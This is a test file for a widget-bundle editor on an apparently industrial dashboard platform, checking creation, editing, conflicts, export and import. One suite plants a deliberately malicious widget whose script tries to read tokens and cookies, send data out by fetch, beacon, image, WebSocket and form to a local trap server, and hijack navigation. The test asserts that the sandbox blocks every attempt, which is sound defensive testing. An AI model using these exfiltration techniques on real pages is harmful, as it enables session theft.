import { readFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { type Widget, widgetCalls } from '@twinscape/contract/widgets';
import type { Locator, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Visitor } from './browser.ts';
import {
  button,
  chooseFromMoreMenu,
  dialog,
  eventually,
  field,
  findToast,
  getRoute,
  link,
  readMenuEntries,
  waitForRoute,
  waitUntilHidden,
  waitUntilVisible,
} from './page.ts';
import { createEmptyProject } from './testProject.ts';
import { openWorld } from './world.ts';

const world = openWorld();
const LIST = '/widgets-bundles';

let projectId: string;
let opened: Visitor | undefined;
/** The page that the sentences of this file share. */
async function shown(): Promise<Visitor> {
  opened ??= world.keepOpen(await world.signInAs('manager', `${LIST}?project=${projectId}`));
  return opened;
}
const bundles = async () => {
  const manager = await world.calls('manager');
  return (await manager.must(widgetCalls.GetProjectComponentPackageList, { projectId })).data.list;
};
const bundleNamed = async (name: string) => {
  const found = (await bundles()).find((one) => one.name === name);
  if (!found) throw new Error(`there is no bundle ${name}`);
  return found;
};
const widgetsOf = async (componentPackageId: string) => {
  const manager = await world.calls('manager');
  return (await manager.must(widgetCalls.GetProjectComponentPackageWidgetList, { projectId, componentPackageId })).data
    .list;
};
const widgetNow = async (id: string): Promise<Widget> => {
  const manager = await world.calls('manager');
  return manager.must(widgetCalls.GetProjectComponentPackageWidgetDetail, { projectId, id });
};
const runs = (page: Page) => waitUntilVisible(page.locator('[data-frame="running"]'));
/** What the widget shows, inside of its frame. */
const inside = (page: Page): Promise<string> =>
  page
    .frameLocator('[data-frame] iframe')
    .locator('body')
    .innerText({ timeout: 2_000 })
    .catch(() => '');
const preview = (page: Page): Locator => page.getByRole('region', { name: '预览' });
const settings = (page: Page): Locator => page.getByRole('region', { name: '设置' });
/** Writes the whole of a text of code. */
async function write(page: Page, tab: string, code: string): Promise<void> {
  await page.getByRole('tab', { name: tab, exact: true }).click();
  const editor = page.getByRole('textbox', { name: tab, exact: true });
  await waitUntilVisible(editor);
  await editor.click();
  await page.keyboard.press('Control+a');
  await page.keyboard.insertText(code);
}

beforeAll(async () => {
  projectId = await createEmptyProject(await world.calls('manager'), '组件旅程');
}, 120_000);

describe('S-WID-01 S-WID-02 R-53 R-54: bundles and their widgets', () => {
  it('C-PKG-05 C-PKG-06 a bundle is made where there was none, and a widget in it, which runs at once', async () => {
    const { page, findings } = await shown();
    await waitUntilVisible(page.getByText('没有组件包'));
    expect(await readMenuEntries(page)).toContain('组件包');
    expect(await findings()).toEqual([]);
    await button(page, '新建组件包').first().click();
    const making = dialog(page, '新建组件包');
    await button(making, /创\s?建/).click();
    await waitUntilVisible(making.getByText('请输入组件包名称'));
    await field(making, '名称').fill('冷站组件');
    await field(making, '说明').fill('值班看板');
    await button(making, /创\s?建/).click();
    const { id } = await eventuallyBundle('冷站组件');
    await waitForRoute(page, `${LIST}/${id}?project=${projectId}`);
    await waitUntilVisible(page.getByRole('heading', { name: '冷站组件' }));
    await waitUntilVisible(page.getByText('没有组件'));
    await button(page, '新建组件').first().click();
    const adding = dialog(page, '新建组件');
    await adding.getByRole('radio', { name: /最新值/ }).check();
    await field(adding, '名称').fill('供水温度');
    await button(adding, /创\s?建/).click();
    await waitForRoute(page, new RegExp(`${LIST}/${id}/[0-9a-f-]{36}\\?`));
    await runs(page);
    await eventually(() => inside(page)).toContain('7.2');
    await waitUntilVisible(page.getByText('示例数据'));
    expect(await findings()).toEqual([]);
  });

  it('S-WID-04 R-56 C-PKG-08 HTML, script and settings are written, seen while they are written, undone and saved', async () => {
    const { page, findings, problems: troubles } = await shown();
    const [widget] = await widgetsOf((await bundleNamed('冷站组件')).id);
    // Settings as a form: what is chosen is what the widget hears.
    await field(settings(page), '标题').fill('一号冷机');
    await eventually(() => inside(page)).toContain('一号冷机');
    await waitUntilVisible(page.getByText('未保存', { exact: true }));
    await write(page, '脚本', '');
    await write(page, 'HTML', '<h2 data-setting="title"></h2><b id="own">HERE</b>');
    await eventually(() => inside(page)).toContain('HERE');
    await button(page, '撤销').click();
    await waitUntilHidden(preview(page).frameLocator('iframe').getByText('HERE'));
    await button(page, '重做').click();
    await eventually(() => inside(page)).toContain('HERE');

    // What the script throws and the commands that it gives are told; the browser tells of the first in its console,
    // too.
    await write(page, '脚本', "widget.send('setpoint', 22);\nmissing();");
    const log = page.getByRole('log', { name: '运行消息' });
    await waitUntilVisible(log.getByText('指令 setpoint = 22（预览中不下发）'));
    await waitUntilVisible(log.getByText(/missing is not defined/));
    await eventually(() => troubles.splice(0).join()).toContain('missing is not defined');
    await write(page, '脚本', 'widget.onSettings(({ title }) => { document.body.dataset.heard = title; });');

    // Settings that cannot be read are not saved, and where they are wrong is said.
    await write(page, '设置项', '{\n  "title" 1\n}');
    await waitUntilVisible(page.getByText('设置项第 2 行不是有效的 JSON'));
    await page.keyboard.press('Control+s');
    await waitUntilVisible(findToast(page, '设置项第 2 行不是有效的 JSON'));
    await write(page, '设置项', '{"title":"二号冷机","limit":28}');
    await waitUntilVisible(settings(page).getByRole('spinbutton', { name: 'limit' }));
    await eventually(() => inside(page)).toContain('二号冷机');
    expect(await findings()).toEqual([]);
    await page.keyboard.press('Control+s');
    await waitUntilVisible(findToast(page, '保存成功'));
    await waitUntilHidden(page.getByText('未保存', { exact: true }));
    expect(await widgetNow(widget?.id ?? '')).toMatchObject({
      name: '供水温度',
      widgetType: 'latest',
      templateHtml: '<h2 data-setting="title"></h2><b id="own">HERE</b>',
      settingsJson: '{"title":"二号冷机","limit":28}',
    });

    // Alone on the screen, and back by Esc.
    await button(page, '全屏预览').click();
    await eventually(async () => (await preview(page).boundingBox())?.width).toBe(1440);
    await page.keyboard.press('Escape');
    await waitUntilVisible(button(page, '全屏预览'));
  });

  it('C-PKG-08 what somebody else saved meanwhile is not overwritten: the reader decides', async () => {
    const { page } = await shown();
    const manager = await world.calls('manager');
    const { id: bundleId } = await bundleNamed('冷站组件');
    const id = (await widgetsOf(bundleId))[0]?.id ?? '';
    const theirs = () =>
      manager.must(widgetCalls.UpdateProjectComponentPackageWidget, {
        projectId,
        id,
        templateCss: `/* ${Date.now()} */`,
      });
    await theirs();
    await field(page, '组件名称').fill('我的名称');
    await page.keyboard.press('Control+s');
    const conflict = dialog(page, '组件已被他人修改');
    await waitUntilVisible(conflict.getByText('放弃我的修改'));
    expect((await widgetNow(id)).name).toBe('供水温度');
    await button(conflict, '另存为副本').click();
    await waitUntilVisible(findToast(page, '已复制为“我的名称 副本”'));
    await eventually(async () => getRoute(page).includes(id)).toBe(false);
    expect((await widgetsOf(bundleId)).map(({ name }) => name)).toEqual(['供水温度', '我的名称 副本']);
    // Or it is overwritten, on purpose.
    await runs(page);
    const copy = (await widgetsOf(bundleId))[1]?.id ?? '';
    await manager.must(widgetCalls.UpdateProjectComponentPackageWidget, { projectId, id: copy, script: '// theirs' });
    await field(page, '组件名称').fill('水温');
    await button(page, /保\s?存/).click();
    await button(dialog(page, '组件已被他人修改'), /覆\s?盖/).click();
    await button(page.getByRole('tooltip'), /覆\s?盖/).click();
    // A toast of an earlier save may still stand there.
    await eventually(async () => (await widgetNow(copy)).name).toBe('水温');
  });

  it('unsaved work is not left unasked', async () => {
    const { page } = await shown();
    await field(page, '组件名称').fill('没有保存');
    await button(page, '返回组件包').click();
    await button(dialog(page, '有未保存的修改'), '继续编辑').click();
    await eventually(() => field(page, '组件名称').inputValue()).toBe('没有保存');
    await button(page, '返回组件包').click();
    await button(dialog(page, '有未保存的修改'), '放弃修改并离开').click();
    await waitUntilVisible(link(page, '水温'));
  });

  it('C-PKG-10 widgets are found, copied, renamed, moved to another bundle, deleted, and brought back', async () => {
    const { page, findings } = await shown();
    const manager = await world.calls('manager');
    await manager.must(widgetCalls.AddProjectComponentPackage, { projectId, name: '备用组件' });
    await chooseFromMoreMenu(page, '水温', '复制');
    await waitUntilVisible(link(page, '水温 副本'));
    await chooseFromMoreMenu(page, '水温 副本', '重命名');
    await field(dialog(page, '重命名'), '名称').fill('供水温度');
    await button(dialog(page, '重命名'), /保\s?存/).click();
    await waitUntilVisible(dialog(page, '重命名').getByText('该组件包中已有名为“供水温度”的组件'));
    await field(dialog(page, '重命名'), '名称').fill('回水温度');
    await button(dialog(page, '重命名'), /保\s?存/).click();
    await waitUntilVisible(link(page, '回水温度'));
    await field(page, '搜索组件名称').fill('回水');
    await waitUntilHidden(link(page, '供水温度'));
    expect(await findings()).toEqual([]);
    await chooseFromMoreMenu(page, '回水温度', '删除');
    await waitUntilVisible(page.getByText('没有符合条件的组件'));
    await button(page, '撤销').click();
    await waitUntilVisible(link(page, '回水温度'));
    await chooseFromMoreMenu(page, '回水温度', '移动组件');
    const moving = dialog(page, '移动“回水温度”');
    await field(moving, '目标组件包').click();
    await page.getByTitle('备用组件').first().click();
    await button(moving, /移\s?动/).click();
    await waitUntilVisible(findToast(page, '已移动到“备用组件”'));
    expect((await widgetsOf((await bundleNamed('备用组件')).id)).map(({ name }) => name)).toEqual(['回水温度']);
    await field(page, '搜索组件名称').fill('');
    await waitUntilVisible(link(page, '水温'));
  });

  it('S-WID-03 R-55 C-PKG-07 a bundle gets another name and description', async () => {
    const { page, findings } = await shown();
    await button(page, '详情').click();
    await waitForRoute(page, /\/details\?/);
    await waitUntilVisible(page.getByRole('heading', { name: '组件包详情' }));
    expect(await findings()).toEqual([]);
    await field(page, '名称').fill('备用组件');
    await button(page, /保\s?存/).click();
    await waitUntilVisible(page.getByText('已有名为“备用组件”的组件包'));
    await field(page, '名称').fill('冷站看板');
    await field(page, '说明').fill('');
    await button(page, /保\s?存/).click();
    await waitUntilVisible(findToast(page, '保存成功'));
    expect(await bundleNamed('冷站看板')).toMatchObject({ comment: '', widgetCount: 2 });
  });

  it('C-PKG-01 C-PKG-09 bundles are copied, exported, deleted with what is in them, brought back whole, and imported', async () => {
    const { page, go } = await shown();
    await go(`${LIST}?project=${projectId}`);
    await chooseFromMoreMenu(page, '冷站看板', '复制');
    await waitUntilVisible(findToast(page, '已复制为“冷站看板 副本”'));
    await waitUntilVisible(link(page, '冷站看板 副本'));
    const download = page.waitForEvent('download');
    await chooseFromMoreMenu(page, '冷站看板', '导出');
    const file = await (await download).path();
    const exported = await readFile(file, 'utf8');
    expect(JSON.parse(exported)).toMatchObject({
      format: 'twinscape-widgets',
      name: '冷站看板',
      widgets: [{ name: '供水温度' }, { name: '水温' }],
    });
    await chooseFromMoreMenu(page, '冷站看板', '删除');
    const asks = dialog(page, '删除组件包“冷站看板”');
    await waitUntilVisible(asks.getByText('其中的 2 个组件会一并删除。'));
    await button(asks, /删\s?除/).click();
    await waitUntilHidden(link(page, '冷站看板'));
    await button(page, '撤销').click();
    await waitUntilVisible(link(page, '冷站看板'));
    expect((await widgetsOf((await bundleNamed('冷站看板')).id)).map(({ name }) => name)).toEqual(['供水温度', '水温']);

    const chooser = page.locator('input[type=file][accept*=json]');
    const give = (name: string, text: string) =>
      chooser.setInputFiles({ name, mimeType: 'application/json', buffer: Buffer.from(text) });
    await give('a.json', '{');
    await waitUntilVisible(findToast(page, '“a.json”不是 JSON 文件'));
    await give('b.json', exported.replace('"latest"', '"gauge"'));
    await waitUntilVisible(findToast(page, '“b.json”中的 widgets[0].widgetType 无效'));
    await give('c.json', exported);
    await waitUntilVisible(findToast(page, '已导入“冷站看板 副本 2”，共 2 个组件'));
    await waitUntilVisible(page.getByRole('heading', { name: '冷站看板 副本 2' }));
    await waitUntilVisible(link(page, '供水温度'));
  });
});

/** Waits until a bundle is there. */
async function eventuallyBundle(name: string) {
  await eventually(async () => (await bundles()).some((one) => one.name === name)).toBe(true);
  return bundleNamed(name);
}

describe('RU-LBL-07: a widget that means harm', () => {
  const hits: string[] = [];
  let trap: Server;
  beforeAll(async () => {
    trap = createServer((request, response) => {
      hits.push(request.url ?? '');
      response.end();
    });
    await new Promise<void>((resolve) => trap.listen(0, '127.0.0.1', resolve));
  });
  afterAll(() => {
    trap.closeAllConnections();
    trap.close();
  });

  it('reads no token and no page, calls nothing, sends nothing and leads nowhere, in the preview as elsewhere', async () => {
    const manager = await world.calls('manager');
    // In a page that nobody uses afterwards: a browser says what it refused once more to who looks at a later frame.
    const visitor = await world.signInAs('manager', `${LIST}?project=${projectId}`, { isNew: true });
    const { page } = visitor;
    const elsewhere = `http://127.0.0.1:${(trap.address() as AddressInfo).port}`;
    const said = (words: string) => `document.body.append(' ${words}');`;
    const tries = [
      `if (parent.sessionStorage.length >= 0) ${said('READ-SESSION')}`,
      `if (parent.document.title !== undefined) ${said('READ-PAGE')}`,
      `if (localStorage.length >= 0) ${said('READ-STORAGE')}`,
      `if (document.cookie !== undefined) ${said('READ-COOKIE')}`,
      `fetch('/api/User/GetUserInfo', { credentials: 'include' }).then(() => { ${said('CALLED')} }, () => {})`,
      `fetch('${elsewhere}/fetch').catch(() => {})`,
      `navigator.sendBeacon('${elsewhere}/beacon', 'x')`,
      `new Image().src = '${elsewhere}/image'`,
      `new WebSocket('${elsewhere.replace('http', 'ws')}/socket')`,
      `open('${elsewhere}/popup')`,
      `top.location = '${elsewhere}/top'`,
      `const f = document.createElement('form'); f.action = '${elsewhere}/form'; document.body.append(f); f.submit()`,
      `for (let n = 0; n < 5e3; n++) { widget.send('flood', n); widget.press(); }`,
      `parent.postMessage({ type: 'send', key: 'forged', value: '1' }, '*')`,
      `setTimeout(() => { location.href = '${elsewhere}/away' }, 3000)`,
    ];
    const { id: componentPackageId } = await bundleNamed('备用组件');
    const { id } = await manager.must(widgetCalls.AddProjectComponentPackageWidget, {
      projectId,
      componentPackageId,
      name: '恶意',
      widgetType: 'static',
      templateHtml: `<b>SHOWN</b><img src="${elsewhere}/html" alt=""><iframe src="${elsewhere}/frame"></iframe>`,
      templateCss: `body { background: url(${elsewhere}/css) }`,
      script: `${tries.map((one) => `try { ${one} } catch {}`).join('\n')}\ndocument.body.append(' TRIED');`,
    });
    const before = await page.evaluate(() => sessionStorage.getItem('token'));
    await visitor.go(`${LIST}/${componentPackageId}/${id}?project=${projectId}`);
    await eventually(() => inside(page)).toContain('TRIED');
    const text = await inside(page);
    expect(text).toContain('SHOWN');
    expect(text).not.toMatch(/READ-|CALLED/);
    // It leads its own frame away, where nothing is to be had; everything else stays where it was.
    await eventually(() => inside(page)).not.toContain('TRIED');
    expect(hits).toEqual([]);
    expect(new URL(page.url()).origin).toBe(new URL(world.url).origin);
    expect(getRoute(page)).toContain(id);
    expect(await page.evaluate(() => sessionStorage.getItem('token'))).toBe(before);
    expect(await page.getByRole('log').locator('li').count()).toBeLessThanOrEqual(15);
    expect(await page.getByText('forged').count()).toBe(0);
    // What the browser refuses it says in the console of the page: that is wanted here.
    await page.goto('about:blank');
    expect(visitor.problems.splice(0).join('\n')).toContain('violates the following Content Security Policy');
  });
});

describe('RU-SCOPE-05 RU-PERM-14: whose library it is', () => {
  it('the platform keeps the system’s bundles outside of any project; in a project they are read and copied', async () => {
    const owner = await world.signInAs('admin', LIST);
    await waitUntilVisible(link(owner.page, '通用监视组件'));
    expect(await readMenuEntries(owner.page)).toContain('组件包');
    await button(owner.page, '新建组件包').first().click();
    await field(dialog(owner.page, '新建组件包'), '名称').fill('平台组件');
    await button(dialog(owner.page, '新建组件包'), /创\s?建/).click();
    await waitUntilVisible(owner.page.getByText('没有组件'));
    await waitForRoute(owner.page, new RegExp(`^${LIST}/[0-9a-f-]{36}$`));
    await button(owner.page, '新建组件').first().click();
    await field(dialog(owner.page, '新建组件'), '名称').fill('标题');
    await dialog(owner.page, '新建组件').getByRole('radio', { name: /静态/ }).check();
    await button(dialog(owner.page, '新建组件'), /创\s?建/).click();
    await runs(owner.page);

    const { page, go } = await shown();
    await go(`${LIST}?project=${projectId}`);
    await page.getByText('系统库', { exact: true }).click();
    await waitUntilVisible(link(page, '平台组件'));
    expect(await button(page, '新建组件包').count()).toBe(0);
    await link(page, '平台组件').click();
    await link(page, '标题').click();
    await runs(page);
    expect(await field(page, '组件名称').isDisabled()).toBe(true);
    await button(page, '返回组件包').click();
    await chooseFromMoreMenu(page, '平台组件', '复制到项目库');
    await waitUntilVisible(findToast(page, '已复制为“平台组件”'));
    expect(await bundleNamed('平台组件')).toMatchObject({ widgetCount: 1 });
  });
});
